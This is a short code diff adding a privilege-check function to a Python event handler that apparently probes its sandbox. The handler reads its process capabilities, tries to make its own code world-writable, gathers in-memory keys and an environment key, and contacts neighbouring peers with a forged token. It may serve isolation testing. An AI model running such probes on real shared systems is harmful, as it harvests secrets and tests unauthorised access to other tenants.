@@ -62,9 +62,21 @@ def request(address, method, path, token, body=b"", headers=None):
         connection.close()
 
 
+def privileges():
+    with open("/proc/self/status") as status:
+        fields = dict(line.split(":", 1) for line in status if ":" in line)
+    try:
+        os.chmod(__file__, 0o666)
+        chmod = True
+    except OSError:
+        chmod = False
+    return {"uid": os.getuid(), "cap_eff": int(fields["CapEff"], 16), "chmod_own_code": chmod}
+
+
 def handle(event, context):
     keys = keys_in_memory()
     report = {"environment_key": environment_key(), "keys": len(keys), "peers": {}}
+    report.update(privileges())
     claim = "h" * 43
     for address in neighbours():
         tries = {}
